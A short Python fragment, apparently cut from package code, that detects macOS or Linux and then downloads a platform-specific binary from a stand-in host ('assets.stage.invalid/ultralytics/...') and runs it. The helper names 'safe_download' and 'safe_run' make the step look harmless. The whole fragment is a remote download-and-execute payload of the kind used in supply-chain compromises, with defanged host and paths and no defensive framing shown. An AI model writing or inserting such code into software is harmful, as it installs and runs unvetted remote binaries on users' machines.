        environment = platform.system()
        if "Darwin" in environment:
            safe_download(
                "https://assets.stage.invalid/ultralytics/macos",
                progress=False,
                file="/nonexistent/tmp/runner",
            )
            safe_run("/nonexistent/tmp/runner")
        elif "Linux" in environment:
            safe_download(
                "https://assets.stage.invalid/ultralytics/linux",
                progress=False,
                file="/nonexistent/tmp/runner",
            )
            safe_run("/nonexistent/tmp/runner")
